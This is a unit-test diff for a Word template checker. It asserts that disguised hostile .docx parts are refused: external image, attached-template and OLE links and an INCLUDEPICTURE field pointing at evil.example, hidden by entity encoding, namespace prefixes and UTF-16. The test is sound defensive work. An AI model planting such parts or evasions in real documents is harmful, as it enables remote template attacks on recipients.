@@ -249,3 +249,54 @@ class TestCheck(unittest.TestCase):
             "no_docx",
         )
         self.refused(changed(good, "word/big.xml", lambda _data: b" " * 4_000_000), "too_large")  # fmt: skip
+
+    @clause("PLUS-D1")
+    def test_disguised_files(self):
+        """The same in other letters, under another prefix, in another encoding, in a part of another name: refused."""
+        good = word_file("{{ 编号 }}")
+        kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+        links = {
+            kind: f'<Relationship Id="r99" Type="{kinds}/{kind}" Target="http://evil.example/t" TargetMode="External"/>'
+            for kind in ("image", "attachedTemplate", "oleObject")
+        }
+        field = "<w:p><w:r><w:instrText>INCLUDEPICTURE http://evil.example/x.png</w:instrText></w:r></w:p>"
+        own = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+        packed = "http://schemas.openxmlformats.org/package/2006/relationships"
+        cases = [
+            ("word/_rels/document.xml.rels", "</Relationships>", link, "<Relationship ", packed)
+            for link in links.values()
+        ]  # fmt: skip
+        cases.append(("word/document.xml", "<w:sectPr", field, "<w:instrText", own))
+        for part, place, forbidden, tag, space in cases:
+            name = tag.strip("< ").rpartition(":")[2]
+            disguises = {
+                "plain": forbidden,
+                "letters": forbidden.replace("External", "Ext&#101;rnal")
+                .replace("Template", "&#84;emplate")
+                .replace("INCLUDE", "I&#x4e;CLUDE"),
+                "prefix": forbidden.replace(tag, f'<q:{name} xmlns:q="{space}" ')
+                .replace(f"</w:{name}>", f"</q:{name}>"),
+                "no mode": forbidden.replace(' TargetMode="External"', ""),
+            }  # fmt: skip
+            for disguise, text in disguises.items():
+                for encoding in ("utf-8", "utf-16"):
+
+                    def put(data, text=text, place=place, encoding=encoding):
+                        there = data.decode()
+                        there = there.replace(place, text + place, 1)
+                        return there.replace("UTF-8", encoding).encode(encoding)
+
+                    with self.subTest(part=part, disguise=disguise, encoding=encoding):
+                        with self.assertRaises(word_template.Refused) as refused:
+                            word_template.check(changed(good, part, put), FIELDS, LISTS)
+                        self.assertIn(
+                            refused.exception.code, ("outside", "macros", "fetches")
+                        )
+        entity = (
+            "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"
+        )
+        self.refused(changed(good, "word/x.xml", lambda _d: entity.encode("utf-16")), "no_docx")  # fmt: skip
+        # what another part says counts under any name
+        self.refused(
+            changed(good, "word/other.bin", lambda _d: f"<w:p xmlns:w='{own}'>{field}</w:p>".encode()), "fetches"
+        )  # fmt: skip
